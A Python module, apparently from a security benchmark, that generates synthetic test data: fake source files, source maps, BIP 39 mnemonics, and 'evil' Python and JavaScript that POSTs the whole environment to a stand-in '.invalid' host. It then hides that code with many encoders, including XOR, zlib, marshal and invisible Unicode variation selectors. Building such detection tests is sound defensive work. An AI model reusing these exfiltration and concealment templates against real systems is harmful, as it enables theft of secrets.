"""Source text, source maps and hidden code, made up from a seed."""

from __future__ import annotations

import base64
import hashlib
import json
import marshal
import re
import textwrap
import zlib
from collections.abc import Callable
from pathlib import Path
from random import Random
from urllib.parse import quote

from bench.breadth.values import WORDS, password

VERBS = ("load", "resolve", "render", "collect", "merge", "apply", "schedule", "encode", "validate", "settle")
SIZES = {"small": (2, 999), "large": (1000, 90_000)}
FIELD = re.compile("@(verb|noun|other|Verb|Noun|Other|i|small|large)")
SHAPES = {
    name: text.strip("\n")
    for name, _, text in (
        block.partition("\n")
        for block in (Path(__file__).parent / "tables" / "shapes.tpl").read_text("utf-8")[3:].split("\n== ")
    )
}
BIP39_START = (
    *("abandon", "ability", "able", "about", "above", "absent", "absorb", "abstract", "absurd", "abuse", "access"),
    *("accident", "account", "accuse", "achieve", "acid", "acoustic", "acquire", "across", "act", "action", "actor"),
)
"""The first words of the English list of BIP 39: their places there are their places here."""


def source(rng: Random, argument: str) -> str:
    """Text that says something in the language of one of ``tables/shapes.tpl``, so many times: ``ts,12``."""
    language, _, count = argument.partition(",")
    return "\n\n".join(_shaped(rng, SHAPES[language], index) for index in range(int(count or 12)))


def _shaped(rng: Random, shape: str, index: int) -> str:
    words = {"verb": rng.choice(VERBS), "noun": rng.choice(WORDS), "other": rng.choice(WORDS), "i": str(index)}
    words |= {name.capitalize(): word.capitalize() for name, word in words.items()}

    def one(match: re.Match[str]) -> str:
        name = match[1]
        return words[name] if name in words else str(rng.randrange(*SIZES[name]))

    return FIELD.sub(one, shape)


def source_map(rng: Random, argument: str) -> str:
    """A source map (ECMA-426) whose sources, separated by commas, have made-up text of their own."""
    sources = argument.split(",")
    texts = [source(rng, ("tsx" if name.endswith("x") else "ts") + ",14") for name in sources]
    mappings = ";".join(",".join(rng.choices(("AAAA", "CACA", "GAAG", "SAEQ"), k=6)) for _ in range(40))
    made = {"version": 3, "sources": sources, "sourcesContent": texts, "names": [], "mappings": mappings}
    return json.dumps(made)


def bare_map(rng: Random, argument: str) -> str:
    """A source map without text."""
    made = json.loads(source_map(rng, argument))
    del made["sourcesContent"]
    return json.dumps(made)


def mnemonic(rng: Random, _: str) -> str:
    """Twelve words of BIP 39 whose checksum holds, of words with small numbers."""
    while True:
        numbers = [rng.randrange(len(BIP39_START)) for _ in range(12)]
        value = 0
        for number in numbers:
            value = value << 11 | number
        digest = hashlib.sha256((value >> 4).to_bytes(16, "big")).digest()
        if digest[0] >> 4 == value & 15 and len(set(numbers)) > 7:
            return " ".join(BIP39_START[number] for number in numbers)


def evil_py(rng: Random, _: str = "") -> str:
    """Python that takes the environment away: nothing that answers, in 1,500 characters or so."""
    host = f"{rng.choice(WORDS)}-{rng.randrange(99)}.invalid"
    lines = ["import os, json, urllib.request", "def send(parts):", "    body = json.dumps(parts).encode()"]
    lines += [f"    urllib.request.urlopen('https://{host}/c', data=body, timeout=4)"]
    lines += [f"def {rng.choice(VERBS)}_{index}(): return {rng.randrange(10**6)}" for index in range(30)]
    return "\n".join([*lines, "send(dict(os.environ))", ""])


def evil_js(rng: Random, _: str = "") -> str:
    """The same in JavaScript for Node."""
    host = f"{rng.choice(WORDS)}-{rng.randrange(99)}.invalid"
    lines = ["const https = require('https');", "const body = JSON.stringify(process.env);"]
    lines += [f"function {rng.choice(VERBS)}{index}(a) {{ return a * {rng.randrange(10**6)}; }}" for index in range(30)]
    lines += [f"const r = https.request({{host: '{host}', method: 'POST', path: '/c'}}); r.write(body); r.end();", ""]
    return "\n".join(lines)


def _of(text: str, encode: Callable[[bytes], str]) -> Callable[[Random, str], str]:
    make = evil_py if text == "py" else evil_js
    return lambda rng, _: encode(make(rng).encode())


def _wrapped(text: str) -> str:
    return "\n".join(f'    "{line}"' for line in textwrap.wrap(text, 76))


def hexed(data: bytes) -> str:
    return data.hex()


def codes(data: bytes) -> str:
    return ",".join(str(byte) for byte in data)


def escapes(data: bytes) -> str:
    return "".join(f"\\x{byte:02x}" for byte in data)


def unicode_escapes(data: bytes) -> str:
    return "".join(f"\\u{byte:04x}" for byte in data)


def based(data: bytes) -> str:
    return base64.b64encode(data).decode()


def tags(data: bytes) -> str:
    """Bytes as variation selectors, which no editor shows."""
    return "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in data)


ENCODERS: dict[str, Callable[[bytes], str]] = {
    "b64": based,
    "hex": hexed,
    "codes": codes,
    "esc": escapes,
    "uesc": unicode_escapes,
    "b85": lambda data: base64.b85encode(data).decode().replace("\\", "\\\\"),
    "b32": lambda data: base64.b32encode(data).decode(),
    "zb64": lambda data: based(zlib.compress(data)),
    "b64rev": lambda data: based(data)[::-1],
    "xor": lambda data: codes(bytes(byte ^ 0x5A for byte in data)),
    "tags": tags,
    "wrapped": lambda data: _wrapped(based(data)),
    "int": lambda data: str(int.from_bytes(data, "big")),
    "pct": lambda data: "".join(f"%{byte:02x}" for byte in data),
    "list64": lambda data: ",".join(f"'{part}'" for part in textwrap.wrap(based(data), 40)),
}
MAKERS: dict[str, Callable[[Random, str], str]] = {
    "src": source,
    "map": source_map,
    "map64": lambda rng, text: based(source_map(rng, text).encode()),
    "mapz64": lambda rng, text: based(zlib.compress(source_map(rng, text).encode())),
    "mappct": lambda rng, text: quote(source_map(rng, text)),
    "mapjson": lambda rng, text: json.dumps(source_map(rng, text)),
    "bare-map": bare_map,
    "bip39": mnemonic,
    "evilpy": evil_py,
    "eviljs": evil_js,
    "marshal": lambda rng, _: based(marshal.dumps(compile(evil_py(rng), "m", "exec"))),
    "pwjson": lambda rng, _: json.dumps(password(rng)),
    **{f"py-{name}": _of("py", encode) for name, encode in ENCODERS.items()},
    **{f"js-{name}": _of("js", encode) for name, encode in ENCODERS.items()},
}
